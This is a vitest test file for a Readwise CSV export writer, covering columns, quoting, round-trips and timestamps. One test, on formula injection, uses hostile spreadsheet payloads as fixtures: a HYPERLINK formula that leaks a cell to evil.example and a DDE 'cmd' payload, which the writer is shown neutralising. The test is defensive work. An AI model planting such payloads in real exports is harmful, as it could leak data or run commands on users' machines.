import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { withoutSpreadsheetGuard } from '../../../lib/spreadsheet-formulas';
import { anyUserText } from '../../../test/arbitraries';
import { collect, highlightRow, ODD_TEXTS, rowsOf } from './export-fixtures.test-helper';
import { csvRecord, READWISE_CSV_COLUMNS, readwiseTimestamp, writeReadwiseCsv } from './readwise-csv';

async function parsed(rows: Parameters<typeof writeReadwiseCsv>[0]): Promise<string[][]> {
  // Through UTF-8 bytes, as the file reaches its reader.
  const bytes = Buffer.from((await collect(writeReadwiseCsv(rows))).join(''), 'utf8');
  return parse(bytes, { encoding: 'utf8' });
}

describe('writeReadwiseCsv', () => {
  it("writes Readwise's export columns, then one record per highlight", async () => {
    const highlight = highlightRow({
      comment: 'My note',
      tags: ['focus', 'deep work'],
      categories: ['MINDSET_HABITS'],
      location: { type: 'location', value: '610-612' },
    });
    const [header, record, ...rest] = await parsed(rowsOf([{ highlight, externalId: 'B00555X8OA' }]));
    expect(header).toEqual([...READWISE_CSV_COLUMNS]);
    expect(record).toEqual([
      'A highlight.',
      'Thinking, Fast and Slow',
      'Daniel Kahneman',
      'B00555X8OA',
      'My note',
      '',
      'focus, deep work, MINDSET_HABITS',
      'location',
      '610-612',
      '2026-03-04 05:06:07+00:00',
      '',
    ]);
    expect(rest).toEqual([]);
  });

  it('quotes a field holding a bare line break, which readers of CSV take for the end of a row otherwise', async () => {
    const highlight = highlightRow({ content: 'line one\nline two', comment: 'first\n\nsecond\rthird' });
    const text = (await collect(writeReadwiseCsv(rowsOf([{ highlight, externalId: null }])))).join('');
    expect(text).toContain('\r\n"line one\nline two",');
    expect(text).toContain(',"first\n\nsecond\rthird",');
    const records = parse(text, { record_delimiter: ['\r\n', '\n', '\r'] });
    expect(records).toHaveLength(2);
    expect(records[1]?.[0]).toBe('line one\nline two');
  });

  it('writes a cell a spreadsheet would run as a formula as text, a title planted by a web page too', async () => {
    const highlight = highlightRow({
      content: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      source: "=cmd|' /C calc'!A0",
      author: '+SUM(1+1)',
      comment: '- buy milk',
      tags: ['@SUM(1)'],
    });
    const [, record] = await parsed(rowsOf([{ highlight, externalId: '-2+3' }]));
    expect(record?.slice(0, 5)).toEqual([
      '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
      "'=cmd|' /C calc'!A0",
      "'+SUM(1+1)",
      "'-2+3",
      '- buy milk',
    ]);
    expect(record?.[6]?.startsWith("'@SUM(1)")).toBe(true);
  });

  it('names a time location as Readwise does and leaves absent values empty', () => {
    const record = csvRecord(
      highlightRow({ source: null, author: null, location: { type: 'time', value: '01:02:03' } }),
      null,
    );
    expect(record.slice(1, 4)).toEqual(['', '', '']);
    expect(record.slice(7, 9)).toEqual(['time_offset', '01:02:03']);
  });

  it('parses back to the same values, odd characters included', async () => {
    const rows = ODD_TEXTS.map((text, index) => ({
      highlight: highlightRow({ id: `h${index}`, content: text, comment: text, source: text, author: text }),
      externalId: text,
    }));
    const [, ...records] = await parsed(rowsOf(rows));
    expect(records).toEqual(rows.map((row) => csvRecord(row.highlight, row.externalId)));
    expect(records.map((record) => withoutSpreadsheetGuard(record[0] ?? ''))).toEqual(ODD_TEXTS);
  });

  it('writes a long export, stringified in batches, as one record per highlight in order', async () => {
    const rows = Array.from({ length: 450 }, (_, index) => ({
      highlight: highlightRow({ id: `h${index}`, content: `Highlight ${index},\n"quoted"` }),
      externalId: null,
    }));
    const text = (await collect(writeReadwiseCsv(rowsOf(rows)))).join('');
    const expected = [READWISE_CSV_COLUMNS, ...rows.map((row) => csvRecord(row.highlight, row.externalId))];
    expect(text).toBe(stringify(expected, { record_delimiter: 'windows' }));
  });

  it('parses back to the same values for any text', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(fc.tuple(anyUserText, anyUserText), { maxLength: 5 }), async (pairs) => {
        const rows = pairs.map(([content, comment], index) => ({
          highlight: highlightRow({ id: `h${index}`, content, comment }),
          externalId: null,
        }));
        const [, ...records] = await parsed(rowsOf(rows));
        // The file is UTF-8: a lone surrogate cannot be written and comes back as U+FFFD.
        const wellFormed = (text: string) => Buffer.from(text, 'utf8').toString('utf8');
        const read = (cell: string | undefined) => withoutSpreadsheetGuard(cell ?? '');
        expect(records.map((record) => [read(record[0]), read(record[4])])).toEqual(
          pairs.map(([content, comment]) => [wellFormed(content), wellFormed(comment)]),
        );
      }),
      { numRuns: 50 },
    );
  });
});

describe('readwiseTimestamp', () => {
  it('writes UTC with an explicit offset', () => {
    expect(readwiseTimestamp('2026-11-25T23:59:59.999+02:00')).toBe('2026-11-25 21:59:59+00:00');
  });
});
